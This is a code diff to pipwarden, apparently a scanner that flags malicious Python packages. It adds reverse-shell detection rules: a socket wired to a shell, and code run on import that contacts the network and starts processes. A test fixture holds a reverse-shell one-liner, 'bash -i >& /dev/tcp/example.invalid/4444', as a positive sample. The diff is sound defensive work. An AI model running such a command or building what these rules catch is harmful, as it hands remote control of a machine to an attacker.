@@ -3,9 +3,40 @@
 from __future__ import annotations
 
 from pipwarden.findings import Severity
+from pipwarden.scan.facts import Event, Fact, Hit, Observation, ScopeFacts
 from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, negative, positive, rule
 
 _FIX = "Do not install; report the project."
+
+
+def socket_wired_to_shell(s: ScopeFacts) -> Hit | None:
+    """One function connects a socket and wires it to a shell."""
+    ev = s.events
+    if Event.SOCKET_CONNECT in ev and (
+        (Event.DUP2 in ev and (Event.PROCESS in ev or Event.SHELL in ev))
+        or (Event.SHELL in ev and Event.PROCESS in ev)
+    ):
+        return Hit(ev[Event.SOCKET_CONNECT], "socket connected, then wired to a shell")
+    return None
+
+
+def import_talks_and_runs(s: ScopeFacts) -> Hit | None:
+    """Code started on import talks to the network and runs processes."""
+    iev = s.import_events
+    if (Event.NET in iev or Event.SOCKET_CONNECT in iev) and Event.PROCESS in iev:
+        return Hit(
+            iev[Event.PROCESS],
+            "code started on import both talks to the network and runs processes",
+        )
+    return None
+
+
+def _unused_command(o: Observation) -> Severity | None:
+    """A literal not seen used: as `unused_command_severity` (`on_load`: in install-time or
+    start-up code, where a shell command is there to run)."""
+    return unused_command_severity(o.on_load) if o.fact is Fact.REVERSE_SHELL_UNUSED else None
+
+
 RULES = [
     rule(
         "reverse-shell.socket-shell",
@@ -24,6 +55,8 @@ RULES = [
                 "    s.connect(('example.invalid', 80))\n    s.sendall(b'ping')\n"
             ),
         ),
+        when=(Fact.SOCKET_TO_SHELL,),
+        per_scope=(socket_wired_to_shell,),
     ),
     rule(
         "reverse-shell.command",
@@ -36,6 +69,8 @@ RULES = [
             positive("import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n"),
             negative("import os\nos.system(\"bash -c 'echo hi'\")\n"),
         ),
+        when=(Fact.REVERSE_SHELL_RUN, Fact.REVERSE_SHELL_TEXT, Fact.REVERSE_SHELL_UNUSED),
+        severity_of=_unused_command,
     ),
     rule(
         "reverse-shell.remote-control",
@@ -71,6 +106,7 @@ RULES = [
                 "pkg/__init__.py",
             ),
         ),
+        per_file=(import_talks_and_runs,),
     ),
 ]
 
